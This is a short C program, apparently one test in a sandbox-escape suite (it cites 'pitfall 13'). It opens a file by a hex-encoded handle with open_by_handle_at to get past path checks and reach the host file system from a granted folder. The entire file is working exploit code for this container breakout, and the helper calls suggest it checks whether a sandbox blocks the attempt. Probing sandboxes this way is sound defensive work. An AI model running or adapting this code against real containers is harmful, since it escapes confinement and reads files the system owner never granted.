/* Opens a file by its handle, past every path check; the handle is known from outside (pitfall 13). A granted folder gives
 * the file system. */
#include "attack.h"

int main(int argc, char **argv)
{
	struct { unsigned bytes; int type; unsigned char data[128]; } handle = { strlen(argv[3]) / 2, atoi(argv[2]) };
	for (unsigned i = 0; i < handle.bytes; i++)
		sscanf(argv[3] + 2 * i, "%2hhx", handle.data + i);
	tried();
	int mount = open(argv[1], O_RDONLY | O_DIRECTORY);
	if (mount < 0)
		denied("open");
	int fd = syscall(SYS_open_by_handle_at, mount, &handle, O_RDONLY);
	return fd < 0 ? denied("open_by_handle_at") : print_all(fd);
}
